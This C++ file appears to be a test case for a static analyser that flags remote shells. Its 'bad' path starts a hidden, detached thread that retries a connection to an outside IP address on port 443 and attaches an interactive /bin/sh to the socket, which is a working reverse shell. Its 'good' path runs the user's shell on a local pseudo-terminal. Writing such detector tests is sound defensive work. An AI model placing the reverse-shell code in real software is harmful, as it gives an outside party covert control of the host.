/* C++: a thread that nobody asked for hands a shell to whoever answers. */
#include <arpa/inet.h>
#include <chrono>
#include <cstdlib>
#include <netinet/in.h>
#include <pty.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <thread>
#include <unistd.h>

namespace {

class Session {
  public:
    explicit Session(int fd) : fd_(fd) {}
    void bad_run() {
        pid_t child = fork();
        if (child == 0) {
            for (int i = 0; i < 3; ++i)
                dup2(fd_, i);
            // expected-warning-re@+1 {{{{.*}}[vitrine: update/remote-shell]}}
            execl("/bin/sh", "sh", "-i", nullptr);
            _exit(1);
        }
        waitpid(child, nullptr, 0);
    }
    void good_run(const char *shell) {
        pid_t child = fork();
        if (child == 0) {
            for (int i = 0; i < 3; ++i)
                dup2(fd_, i);
            execl(shell, shell, nullptr);
            _exit(1);
        }
        waitpid(child, nullptr, 0);
    }

  private:
    int fd_;
};

} // namespace

void bad_start() {
    std::thread([] {
        sockaddr_in peer{};
        peer.sin_family = AF_INET;
        peer.sin_port = htons(443);
        inet_pton(AF_INET, "198.51.100.9", &peer.sin_addr);
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        while (connect(fd, reinterpret_cast<sockaddr *>(&peer), sizeof peer))
            std::this_thread::sleep_for(std::chrono::hours(1));
        Session(fd).bad_run();
    }).detach();
}

/* A terminal of this host, and the user's own shell. */
void good_start() {
    int outer, inner;
    const char *shell = std::getenv("SHELL");
    if (shell && openpty(&outer, &inner, nullptr, nullptr, nullptr) == 0)
        Session(inner).good_run(shell);
}
